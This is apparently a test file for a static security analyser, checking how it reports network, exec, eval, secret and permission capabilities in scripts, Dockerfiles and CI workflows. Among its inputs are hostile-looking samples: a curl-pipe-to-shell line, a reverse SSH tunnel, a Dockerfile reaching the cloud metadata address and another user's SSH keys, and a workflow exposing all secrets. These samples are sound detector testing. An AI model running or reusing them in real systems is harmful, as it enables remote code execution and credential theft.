import assert from "node:assert/strict";
import type { Finding } from "../../../extension/core/base/finding.ts";
import { fingerprintKey } from "../../../extension/core/review/finding-states.ts";
import { type ShippedRules, shippedRules } from "../../rules/shipped-rules.ts";

describe("capabilities of a document", () => {
  let shipped: ShippedRules;
  before(async () => {
    shipped = await shippedRules();
  });

  function able(language: string, text: string): readonly Finding[] {
    const result = shipped.analyser.analyseAtOnce({ path: "example", language, text, wantsCapabilities: true }, 20_000);
    assert.ok(result);
    return result.findings.filter((finding) => finding.category === "capability");
  }

  function told(language: string, text: string): string[] {
    const all = able(language, text).map(({ capability }) => `${capability?.kind} ${capability?.object ?? "?"}`);
    return [...new Set(all)].sort();
  }

  it("are found where they are asked for, and only there", () => {
    const text = "curl https://api.example/x\n";
    assert.deepEqual(shipped.analyse("bash", text).findings, []);
    assert.deepEqual(told("bash", text), ["exec curl", "network api.example"]);
  });

  it("add nothing to what is found beside them", () => {
    const text = "curl https://x.example/i | sh\nssh -fNR 9:localhost:22 u@h\n";
    const plain = shipped.analyse("bash", text).findings;
    const both = shipped.analyser.analyseAtOnce({ path: "example", language: "bash", text, wantsCapabilities: true }, 20_000);
    assert.ok(plain.length > 0);
    assert.deepEqual(
      both?.findings.filter((finding) => finding.category !== "capability"),
      plain,
    );
  });

  it("add nothing to what is found beside them in configuration, where only settings are asked for risks", () => {
    const image = "FROM debian:12\nVOLUME /home/eve/.ssh/authorized_keys\nADD http://169.254.169.254/latest /x\n";
    const workflow = "on: push\npermissions: write-all\njobs: {}\n";
    for (const [language, text, expected] of [
      ["dockerfile", image, ["command/base-image-by-tag"]],
      ["yaml-workflow", workflow, ["command/workflow-write-all"]],
    ] as const) {
      const both = shipped.analyser.analyseAtOnce({ path: "example", language, text, wantsCapabilities: true }, 20_000);
      const risks = both?.findings.filter((finding) => finding.category !== "capability");
      assert.deepEqual(
        risks?.map(({ rule }) => rule),
        expected,
      );
      assert.deepEqual(shipped.analyse(language, text).findings, risks);
    }
  });

  it("are of the lowest severity, which counts for no verdict", () => {
    for (const rule of shipped.analyser.catalogue.rules)
      if (rule.category === "capability" && rule.check === undefined) assert.equal(rule.severity, "info", rule.id);
  });

  it("have a fingerprint that their object is part of", () => {
    const [, first, second] = able("bash", "curl https://a.example https://b.example\n");
    assert.equal(first?.capability?.object, "a.example");
    assert.equal(second?.capability?.object, "b.example");
    assert.notEqual(first && fingerprintKey(first), second && fingerprintKey(second));
  });

  it("go through constants to the object", () => {
    assert.deepEqual(told("python", 'import os\nKEY = "DEPLOY_" + "TOKEN"\nos.getenv(KEY)\n'), ["environment DEPLOY_TOKEN"]);
    assert.deepEqual(told("javascript", 'const host = "api.example";\nfetch(`https://${host}/v1`);\n'), ["network api.example"]);
    assert.deepEqual(told("bash", 'H=api.example\nping -c 1 "$H"\n'), ["exec ping", "network api.example"]);
  });

  it("have the name of a call for an object where that says most, whatever it is called there", () => {
    assert.deepEqual(told("python", "from pickle import loads as read\nread(data)\n"), ["eval pickle.loads"]);
    assert.deepEqual(told("ruby", "target.instance_eval(text)\n"), ["eval instance_eval"]);
    assert.deepEqual(told("go", 'package main\nimport "unsafe"\n'), ["native-code unsafe"]);
  });

  it("are those of what a call runs, in any language", () => {
    assert.deepEqual(told("python", 'import subprocess\nsubprocess.run(["curl", "https://a.example"])\n'), [
      "exec ?",
      "exec curl",
      "network a.example",
    ]);
    assert.deepEqual(told("dockerfile", "FROM a\nRUN curl https://a.example > /opt/x\n"), [
      "exec curl",
      "file-write /opt/x",
      "network a.example",
    ]);
  });

  it("are what an image is granted", () => {
    const text = "FROM a\nARG SITE=get.example\nADD https://$SITE/x.tgz /x\nEXPOSE 80 443/udp\nVOLUME /data\n";
    assert.deepEqual(told("dockerfile", text), [
      "file-write /data",
      "network get.example",
      "network whoever connects to port 443/udp",
      "network whoever connects to port 80",
    ]);
  });

  it("are not told of an image where a word is unknown, or one of very many", () => {
    assert.deepEqual(told("dockerfile", "FROM a\nADD $SOURCE /x\n"), ["network ?"]);
    assert.deepEqual(told("dockerfile", "FROM a\nADD ./x $TARGET\n"), []);
    const ports = Array.from({ length: 101 }, (_, at) => at + 1).join(" ");
    const all = told("dockerfile", `FROM a\nEXPOSE ${ports}\n`);
    assert.ok(all.includes("network ?") && all.includes("network whoever connects to port 100"));
  });

  it("take an expression without an end for none, however often it begins", () => {
    assert.deepEqual(told("yaml-workflow", `a: '${"${{ secrets.A } } ".repeat(30_000)}'\n`), []);
  });

  it("are what a workflow is granted, each at its place", () => {
    const text = [
      "on: { pull_request_target: { types: [opened] } }",
      "permissions: { contents: write, issues: read }",
      "jobs:",
      "  a:",
      "    steps:",
      "      - uses: team/tool@v1",
      "      - uses: ./here",
      "      - if: ${{ github.actor != 'x' }}",
      "        env: { T: '${{ secrets.PUBLISH }}', ALL: '${{ toJSON(secrets) }}' }",
      "        run: 'true'",
    ].join("\n");
    assert.deepEqual(told("yaml-workflow", text), [
      "dependency team/tool@v1",
      "environment secrets.*",
      "environment secrets.PUBLISH",
      "workflow-permission contents: write",
      "workflow-permission run on pull_request_target",
    ]);
    const secret = able("yaml-workflow", text).find((finding) => finding.capability?.object === "secrets.PUBLISH");
    assert.equal(secret?.range.start.line, 8);
    assert.equal(text.split("\n")[8]?.slice(secret?.range.start.character, secret?.range.end.character), "secrets.PUBLISH");
  });

  it("are not all read from a workflow with ten thousand grants, which is said", () => {
    const text = `permissions: write-all\njobs:\n  a:\n    steps:\n${"      - uses: team/tool@v1\n".repeat(10_000)}`;
    assert.equal(able("yaml-workflow", text).length, 2_000);
    const [problem] = shipped.analyse("yaml-workflow", text).problems;
    assert.equal(problem?.code, "too-many-grants");
    assert.equal(problem?.weight, "blocking");
  });
});
